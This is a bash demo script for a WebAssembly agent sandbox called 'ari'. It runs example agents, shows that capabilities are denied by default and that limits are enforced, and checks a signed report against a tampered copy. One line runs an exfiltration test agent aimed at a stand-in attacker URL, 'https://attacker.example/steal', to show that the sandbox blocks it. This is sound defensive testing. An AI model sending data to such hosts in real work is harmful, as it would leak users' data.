#!/usr/bin/env bash
# The main job, locally and without a cluster: build the runtime and the example agents, then
# run them through `ari run` under their limits, show a failure of each class, and verify a
# signed report by replaying it.
set -euo pipefail
repo="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
cd "$repo"

scripts/setup.sh
scripts/build-agents.sh >/dev/null
# The dev profile optimises the Wasm compiler crates and shares its build with the tests.
echo "demo: building the ari binary (the first run compiles Wasmtime: several minutes on 2 cores)" >&2
cargo build --locked -q -p ari-executor --bin ari
ari="$repo/target/debug/ari"
agents="$repo/target/agents"
work="$(mktemp -d)"
trap 'rm -rf "$work"' EXIT

show() { printf '\n$ ari %s\n' "$*"; "$ari" "$@" || printf '(exit code %s)\n' "$?"; }

echo "== agents doing their job"
show run "$agents/echo.wasm" --input "hello from ari"
show run "$agents/wordcount.wasm" --input "the quick brown fox jumps over the lazy dog"
show run "$agents/counter.wasm" --grant storage=1KiB --state "$work/state" --input visits
show run "$agents/counter.wasm" --grant storage=1KiB --state "$work/state" --input visits
show run "$agents/dice.wasm" --grant randomness --seed "$(printf '%064d' 7)" --input 5
show run "$agents/clock.wasm" --grant timeAccess --input host
show run "$agents/sha256-loop.wasm" --input "1000 abc"

echo
echo "== capabilities are denied by default, limits are enforced"
show run "$agents/counter.wasm" --input visits
show run "$agents/dice.wasm" --input 3
show run "$agents/spin.wasm" --fuel 50000000
show run "$agents/spin.wasm" --fuel 100000000000 --timeout 1
show run "$agents/balloon.wasm" --memory 16777216
show run "$agents/deep.wasm"
show run "$agents/trap.wasm"
show run "$agents/flood.wasm" --input 8
show run "$agents/exfil.wasm" --input "https://attacker.example/steal"
show run "$agents/hoarder.wasm" --grant storage=4KiB --input 512

echo
echo "== a signed, replayable report"
"$ari" run "$agents/dice.wasm" --grant randomness --input 3 --json >"$work/report.json"
head -c 600 "$work/report.json"; echo " ..."
# `ari verify` trusts only a key it is given: in a cluster the Agent's
# status.attestationPublicKey; here the key `ari run` generated, as its report states it.
pub="$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["attestation"]["publicKey"])' "$work/report.json")"
show verify "$work/report.json" --module "$agents/dice.wasm" --public-key "$pub"
# Claim a different output: the signature no longer matches.
python3 - "$work/report.json" "$work/tampered.json" <<'PY'
import json, sys
report = json.load(open(sys.argv[1]))
report["output"] = "6 6 6"
report["attestation"]["resourcesUsed"]["fuel"] = 1
json.dump(report, open(sys.argv[2], "w"))
PY
show verify "$work/tampered.json" --module "$agents/dice.wasm" --public-key "$pub"

echo
echo "== what a component imports and exports"
show inspect "$agents/fetch.wasm"
